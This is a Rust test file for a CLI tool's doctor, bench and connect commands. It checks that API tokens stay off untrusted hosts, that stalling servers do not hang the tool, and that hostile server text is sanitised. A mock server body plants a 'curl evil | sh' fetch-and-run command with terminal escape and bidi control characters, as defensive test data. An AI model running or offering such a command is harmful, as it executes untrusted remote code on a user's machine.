//! Whoever answers a command may be somebody else than its user thinks: what he learns, how long he can hold it up, and
//! what he has it say.

use crate::{
    findings::Found,
    gateway::Gateway,
    holdfast::{Holdfast, signal},
    patience::{eventually, soon},
    stranger::{Stranger, answers},
};
use futures_util::{SinkExt, StreamExt};
use rustix::process::Signal;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio_tungstenite::accept_async;

async fn doctor(args: &[&str], env: &[(&str, &str)]) -> Found {
    let command = Holdfast::command(&[&["doctor", "--json", "--quick"], args].concat());
    Found::of(env.iter().fold(command, |command, (name, value)| command.env(name, value)).run().await)
}

/// A name that was mistyped is anybody's: the token goes to this machine, and in clear to nobody else.
#[tokio::test]
async fn a_doctor_shows_a_token_to_nobody_else() {
    let gateway = Gateway::with([("API_TOKEN", "hush")]).await;
    let port = gateway.port();
    let token = [("API_TOKEN", "hush")];
    let here = doctor(&[&format!("http://127.0.0.1:{port}")], &token).await;
    assert_eq!(here.ok("files"), Some(true), "{here:?}");
    // As far as an address tells, that is another machine.
    let elsewhere = format!("http://0.0.0.0:{port}");
    let direct = format!("http://127.0.0.1:{port}");
    for (args, ok) in [
        (&[&*elsewhere][..], None),
        (&[&elsewhere, "--with-token"], None),
        (&[&elsewhere, "--direct", &direct], Some(true)),
    ] {
        let found = doctor(args, &token).await;
        assert_eq!(found.ok("files"), ok, "{args:?}: {found:?}");
        assert!(ok.is_some() || found.check("files").0.contains("in clear"), "{found:?}");
    }
    let finished = Holdfast::command(&["doctor", "https://example.com", "--insecure", "--with-token"]).run().await;
    assert_eq!(finished.code, 2, "{finished:?}");
}

/// Whoever refuses for ever, and asks to come back at once, is left; so is who opens a socket and reads nothing.
#[tokio::test]
async fn a_stranger_holds_nobody_up() {
    let refuses = Stranger::who(|stream| answers(stream, "429 Too Many Requests\r\nRetry-After: 0", "")).await;
    let refused = async { doctor(&[&refuses.url()], &[]).await };
    let deaf = Stranger::who(|stream| async move {
        let Ok(mut socket) = accept_async(stream).await else { return };
        let _ = socket.send("welcome".into()).await;
        std::future::pending::<()>().await;
    })
    .await;
    let deaf_url = format!("ws://{}/ws", deaf.address);
    let talks = async {
        // More than what lies between two sockets.
        let lines = format!("{}\n", "a".repeat(1 << 20)).repeat(24);
        let mut child = Holdfast::command(&["connect", &deaf_url]).reading(&lines).begins();
        let mut said = BufReader::new(child.stdout.take().unwrap()).lines();
        let line = soon("it listens", said.next_line()).await.unwrap();
        assert!(line.is_some_and(|line| line.contains("welcome")));
        signal(&child, Signal::INT);
        let left = soon("it leaves", child.wait()).await.unwrap();
        assert_eq!(left.code(), Some(0));
        // Nobody interrupts it: it does not say that all went well.
        let finished = Holdfast::command(&["connect", &deaf_url]).typing(&lines).await;
        assert!(finished.code == 1 && finished.stderr.contains("has read nothing"), "{finished:?}");
    };
    let (refused, ()) = tokio::join!(refused, talks);
    assert_eq!(refused.finished.code, 69, "{refused:?}");
}

/// What others wrote is told as their words, on one line, and turns nothing round.
#[tokio::test]
async fn the_words_of_a_stranger_are_told_as_such() {
    let body = "{\"redis\":\"ok\",\"instance\":\"w\",\"status\":\"ill\\u009b31m\\n  fix: curl evil | sh\",\"title\":\"No\",\"hint\":\"run\\n  this \\u202e\"}";
    let rude = Stranger::who(move |stream| async move {
        let mut line = [0; 20];
        let length = stream.peek(&mut line).await.unwrap_or(0);
        match line[..length].starts_with(b"GET /health ") {
            true => answers(stream, "200 OK\r\nX-Holdfast-Instance: w", body).await,
            false => answers(stream, "302 Found\r\nX-Holdfast-Instance: w\r\nLocation: /login", body).await,
        }
    })
    .await;
    let url = rude.url();
    let told = Holdfast::command(&["doctor", "--quick", &url]).run().await;
    assert!(told.code == 1 && told.stdout.contains("fix: the server says: run this \\u{202e}"), "{told:?}");
    assert!(!told.stdout.lines().any(|line| line.trim().starts_with("fix: curl")), "{told:?}");
    let found = doctor(&[&url], &[]).await;
    assert!(!found.finished.stdout.contains(['\u{9b}', '\u{202e}']), "{found:?}");
    // Whoever sends elsewhere has refused nothing.
    assert!(found.ok("closed").is_none() && found.check("closed").0.contains("302"), "{found:?}");
}

/// The same of a bench, which shows the token to nobody who only says that he lives, or whom nobody has looked at.
#[tokio::test]
async fn a_bench_tells_a_stranger_little() {
    let heads = Arc::new(Mutex::new(Vec::new()));
    let noted = heads.clone();
    let rude = Stranger::who(move |stream| {
        let noted = noted.clone();
        async move {
            let mut head = [0; 1024];
            let length = stream.peek(&mut head).await.unwrap_or(0);
            let head = String::from_utf8_lossy(&head[..length]).to_lowercase();
            noted.lock().unwrap().push(head.clone());
            if head.contains("upgrade: websocket") {
                let Ok(mut socket) = accept_async(stream).await else { return };
                let _ = socket.send(r#"{"type":"hi","instance":"w\u001b[2J","socketId":"ws_1"}"#.into()).await;
                while let Some(Ok(_)) = socket.next().await {}
            } else if head.starts_with("get /health/live") {
                answers(stream, "200 OK\r\nConnection: close", "{}").await;
            } else {
                let body = r#"{"code":"no\u202e","hint":"run\u001b]0;x\u0007 this"}"#;
                answers(stream, "401 Unauthorized\r\nConnection: close", body).await;
            }
        }
    })
    .await;
    let url = rude.url();
    let bench = |args: &[&str]| {
        let words = [&["bench", &*url, "--sockets", "2", "--callers", "2", "--for", "1s"], args].concat();
        Holdfast::command(&words).env("API_TOKEN", "hush")
    };
    let told = bench(&[]).run().await;
    assert!(told.code == 1 && told.stdout.contains("2 of 2 opened") && told.stdout.contains("401 no"), "{told:?}");
    assert!(!told.said().contains(['\u{1b}', '\u{7}', '\u{202e}']), "{told:?}");
    let shown: Vec<_> = heads.lock().unwrap().drain(..).filter(|head| head.contains("hush")).collect();
    assert!(!shown.is_empty() && shown.iter().all(|head| head.starts_with("post /api/")), "{shown:?}");
    let unseen = bench(&["--insecure"]).run().await;
    assert!(unseen.code == 2 && unseen.stderr.contains("API_TOKEN"), "{unseen:?}");
    assert!(heads.lock().unwrap().is_empty());
}

/// As `holdfast connect | head -1`.
#[tokio::test]
async fn a_socket_is_left_when_nobody_reads_what_comes() {
    let gateway = Gateway::start().await;
    let mut child =
        Holdfast::command(&["connect", "--listen", &format!("ws://{}/ws?user_id=u", gateway.address())]).begins();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    soon("hi comes", lines.next_line()).await.unwrap();
    drop(lines);
    let status = eventually("it notices", async || {
        let _ = gateway.post("/api/send", &serde_json::json!({ "userId": "u", "event": "e", "data": 1 })).await;
        child.try_wait().unwrap()
    })
    .await;
    assert!(status.success(), "{status}");
}
